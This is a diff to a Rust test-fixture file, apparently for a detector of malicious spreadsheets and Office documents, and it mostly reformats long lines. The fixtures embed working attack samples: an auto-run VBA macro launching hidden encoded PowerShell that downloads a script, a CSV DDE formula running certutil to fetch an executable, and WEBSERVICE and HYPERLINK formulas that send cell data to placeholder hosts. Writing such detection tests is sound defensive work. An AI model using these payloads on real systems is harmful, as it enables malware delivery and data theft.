@@ -31,7 +31,8 @@ fn with_mark(text: &str) -> Vec<u8> {
 fn encoded_macro() -> String {
     let script = "IEX (New-Object Net.WebClient).DownloadString('http://updates.invalid/a.ps1')";
     let coded = base64(&utf_16(script));
-    let pieces: Vec<String> = coded.as_bytes().chunks(60).map(|p| format!("\"{}\"", String::from_utf8_lossy(p))).collect();
+    let pieces: Vec<String> =
+        coded.as_bytes().chunks(60).map(|p| format!("\"{}\"", String::from_utf8_lossy(p))).collect();
     format!(
         "Sub AutoOpen()\n    Dim s As String\n    s = {}\n    Shell \"powershell -nop -w hidden -enc \" & s, 0\nEnd Sub",
         pieces.join("\n    s = s & ")
@@ -51,11 +52,27 @@ pub(crate) fn fixtures() -> Vec<Fixture> {
         Fixture::new("commands-carets", "prices.xlsm", Package::excel(true).macros(&carets).build()),
     ];
     let rows: [(&'static str, &'static str, Vec<u8>); 9] = [
-        ("csv-dde-spaced", "list.csv", b"name;phone\r\nA;-2+3+cmd|' /C certutil -urlcache -f http://a.invalid/a a.exe'!D2\r\n".to_vec()),
+        (
+            "csv-dde-spaced",
+            "list.csv",
+            b"name;phone\r\nA;-2+3+cmd|' /C certutil -urlcache -f http://a.invalid/a a.exe'!D2\r\n".to_vec(),
+        ),
         ("csv-dde-utf-16", "list.tsv", with_mark("name\tprice\r\nA\t@SUM(1+1)*cmd|' /C rem inert'!A0\r\n")),
-        ("csv-dde-wide", "一覧.csv", encoding_rs::SHIFT_JIS.encode("品名,価格\r\nりんご,＝cmd|'/C rem inert'!A0\r\n").0.into_owned()),
-        ("csv-webservice", "list.csv", b"name,price\r\nA,\"=WEBSERVICE(\"\"https://a.invalid/?x=\"\"&A1)\"\r\n".to_vec()),
-        ("csv-link-of-cells", "list.csv", b"name,price\r\nA,\"=HYPERLINK(\"\"https://a.invalid/?x=\"\"&A1&B1,\"\"details\"\")\"\r\n".to_vec()),
+        (
+            "csv-dde-wide",
+            "一覧.csv",
+            encoding_rs::SHIFT_JIS.encode("品名,価格\r\nりんご,＝cmd|'/C rem inert'!A0\r\n").0.into_owned(),
+        ),
+        (
+            "csv-webservice",
+            "list.csv",
+            b"name,price\r\nA,\"=WEBSERVICE(\"\"https://a.invalid/?x=\"\"&A1)\"\r\n".to_vec(),
+        ),
+        (
+            "csv-link-of-cells",
+            "list.csv",
+            b"name,price\r\nA,\"=HYPERLINK(\"\"https://a.invalid/?x=\"\"&A1&B1,\"\"details\"\")\"\r\n".to_vec(),
+        ),
         ("query-iqy-share", "prices.iqy", b"WEB\n1\n\\\\host.invalid@SSL\\share\\a.htm\n\nSelection=1\n".to_vec()),
         ("query-iqy-local", "prices.iqy", b"WEB\r\n1\r\nC:\\reports\\prices.htm\r\n".to_vec()),
         ("query-odc", "orders.odc", ODC.as_bytes().to_vec()),
